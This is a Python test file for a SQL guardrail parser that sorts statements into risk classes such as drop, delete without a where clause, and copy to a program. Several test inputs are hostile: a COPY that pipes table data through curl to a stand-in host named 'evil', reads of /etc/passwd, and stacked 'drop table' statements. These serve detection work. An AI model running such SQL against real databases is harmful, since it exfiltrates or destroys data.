"""SQL texts to statements, classes and tables: the parse layer of SQL guardrails."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.policy.sql import CLASSES, ParsedSQL, parse_statements, shape_of, sql_cache

# (text, classes of each statement) — one case per line.
CASES: list[tuple[str, list[set[str]]]] = [
    ("DROP TABLE t", [{"drop", "ddl"}]),
    ("delete from t", [{"delete", "delete-without-where"}]),
    ("delete from t where id = 1", [{"delete"}]),
    ("delete from t where id = $1", [{"delete"}]),
    ("delete from t where 1 = 1", [{"delete", "delete-without-where"}]),
    ("delete from t where current of c", [{"delete"}]),
    ("update t set a = 1", [{"update", "update-without-where"}]),
    ("update t set a = 1 where true", [{"update", "update-without-where"}]),
    ("update t set a = $1 where id = $2", [{"update"}]),
    ("select 1; drop table t", [{"select"}, {"drop", "ddl"}]),
    (
        "with d as (delete from t returning *) select * from d",
        [{"select", "delete", "delete-without-where"}],
    ),
    ("with u as (update t set a = 1 where b = 2 returning *) select 1", [{"select", "update"}]),
    ("copy t to program 'curl -d @- evil'", [{"copy", "copy-program", "select"}]),
    ("copy (select * from t) to program 'x'", [{"copy", "copy-program", "select"}]),
    ("copy t from stdin", [{"copy", "insert"}]),
    ("copy t from '/etc/passwd'", [{"copy", "copy-file", "insert"}]),
    ("alter system set work_mem = '1GB'", [{"alter-system"}]),
    ("do $$ begin drop table t; end $$", [{"do-block"}]),
    ("DeLeTe FrOm t", [{"delete", "delete-without-where"}]),
    ("/* hi */ DROP -- there\n TABLE t", [{"drop", "ddl"}]),
    ("select $body$ drop table t; $body$", [{"select"}]),
    ("select '; drop table t'", [{"select"}]),
    ("insert into t values ($1, $2)", [{"insert"}]),
    ("insert into t values (1) on conflict (a) do update set b = 2", [{"insert", "update"}]),
    ("insert into mine select * from secret", [{"insert", "select"}]),
    ("truncate a, b.c", [{"truncate"}]),
    ("explain analyze delete from t", [{"explain", "delete", "delete-without-where"}]),
    ("explain (analyze true) delete from t", [{"explain", "delete", "delete-without-where"}]),
    ("explain (analyze false) delete from t", [{"explain"}]),
    ("explain delete from t", [{"explain"}]),
    ("prepare p as delete from t", [{"prepare", "delete", "delete-without-where"}]),
    ("execute p", [{"execute"}]),
    ("call do_things(1)", [{"call"}]),
    ("grant select on t to bob", [{"grant"}]),
    ("revoke all on t from bob", [{"grant"}]),
    ("grant admin to bob", [{"grant"}]),
    ("alter default privileges grant select on tables to bob", [{"grant"}]),
    ("set role admin", [{"set-role"}]),
    ("SET SESSION AUTHORIZATION admin", [{"set-role"}]),
    ("reset role", [{"set-role"}]),
    ("select set_config('role', 'admin', false)", [{"select", "set-role"}]),
    ("set search_path = x", [{"set"}]),
    ("create table t (a int)", [{"ddl"}]),
    ("alter table t add column b int", [{"ddl"}]),
    ("alter table t drop column b", [{"ddl", "drop"}]),
    ("comment on table t is 'x'", [{"ddl"}]),
    ("create index on t (a)", [{"ddl"}]),
    ("alter role bob superuser", [{"ddl", "role"}]),
    ("drop database prod", [{"drop", "ddl"}]),
    (
        "create rule r as on insert to t do instead delete from u",
        [{"ddl", "delete", "delete-without-where"}],
    ),
    (
        "merge into t using s on t.id = s.id when matched then delete",
        [{"merge", "delete", "select"}],
    ),
    ("begin; select 1; commit", [{"transaction"}, {"select"}, {"transaction"}]),
    ("lock table t", [{"lock"}]),
    ("vacuum t", [{"maintenance"}]),
    ("selec 1", [{"unparsable"}]),
    ("select 1; selec 2", [{"unparsable"}]),
    ("", []),
    ("-- only a comment", []),
]


@pytest.mark.parametrize(("text", "classes"), CASES, ids=[c[0] for c in CASES])
def test_classes_per_statement(text: str, classes: list[set[str]]) -> None:
    parsed = parse_statements(text)
    assert [set(s.classes) for s in parsed.statements] == classes
    for s in parsed.statements:
        assert s.classes <= CLASSES


def test_statement_texts_are_split_as_the_server_splits_them() -> None:
    parsed = parse_statements("select 'é;'; DROP TABLE t ;\n select $$;$$")
    assert [s.text for s in parsed.statements] == ["select 'é;'", "DROP TABLE t", "select $$;$$"]


def test_tables_read_and_written() -> None:
    (s,) = parse_statements(
        "with d as (delete from audit.log where ts < now() returning *) "
        "insert into archive select * from d join users u on u.id = d.uid"
    ).statements
    assert s.writes == {"audit.log", "archive"}
    assert s.reads == {"users"}  # d is the CTE, not a table
    assert ("delete", "audit.log") in s.facets
    assert ("insert", "archive") in s.facets
    assert ("select", "users") in s.facets


def test_quoted_names_keep_their_case_and_unquoted_fold() -> None:
    (s,) = parse_statements('DROP TABLE "Audit"."Log", Public.Users').statements
    assert s.writes == {"Audit.Log", "public.users"}


def test_classes_without_tables_are_facets_with_none() -> None:
    (s,) = parse_statements("copy t to program 'x'").statements
    assert ("copy-program", None) in s.facets
    assert ("select", "t") in s.facets
    assert ("select", None) not in s.facets


def test_functions_are_noted() -> None:
    (s,) = parse_statements("select pg_read_file('/etc/passwd'), public.f(1)").statements
    assert s.functions == {"pg_read_file", "public.f"}


def test_unparsable_carries_the_parser_message() -> None:
    (s,) = parse_statements("selec 1").statements
    assert s.error is not None and "syntax error" in s.error


def test_the_same_text_is_parsed_once() -> None:
    first = parse_statements("select * from t where id = $1 -- unique to this test")
    misses = sql_cache().misses
    assert parse_statements("select * from t where id = $1 -- unique to this test") is first
    assert sql_cache().misses == misses


SQL_PIECES = [
    "select ",
    "delete ",
    "from ",
    "t ",
    "where ",
    "with d as (",
    ") ",
    "; ",
    "$$",
    "'",
    '"',
    "$1",
    "--",
    "/*",
    "*/",
    "drop table ",
    "copy ",
    "to program ",
    "1",
    "(",
    ")",
    ",",
    "\n",
]
sql_text = st.lists(st.sampled_from(SQL_PIECES), max_size=30).map("".join)


@settings(max_examples=300, deadline=None)
@given(st.one_of(sql_text, st.text(max_size=80)))
def test_any_text_gives_a_result_and_caches_it(text: str) -> None:
    parsed = parse_statements(text)
    assert isinstance(parsed, ParsedSQL)
    for s in parsed.statements:
        assert s.classes and s.classes <= CLASSES
        assert {c for c, _ in s.facets} == s.classes
    assert parse_statements(text) is parsed


@pytest.mark.parametrize(
    ("text", "decides"),
    [
        ("SELECT abalance FROM pgbench_accounts WHERE aid = 48213", True),
        ("UPDATE t SET n = n + -12 WHERE id = 7", True),
        ("select set_config('role', 'admin', false)", False),  # the literal is the class
        ("explain (analyze off) delete from t", False),
        ("select from where", False),  # unparsable
    ],
)
def test_shape_decides_only_when_no_literal_made_a_class(text: str, decides: bool) -> None:
    assert parse_statements(text).shape_decides is decides


def test_texts_differing_in_literals_share_a_shape() -> None:
    a = shape_of("select * from t where id = 1 and name = 'x'")
    assert a is not None and a == shape_of("select * from t where id = 22 and name = 'y'")
    assert a != shape_of("select * from secret where id = 1 and name = 'x'")
    assert shape_of("select from where") is None
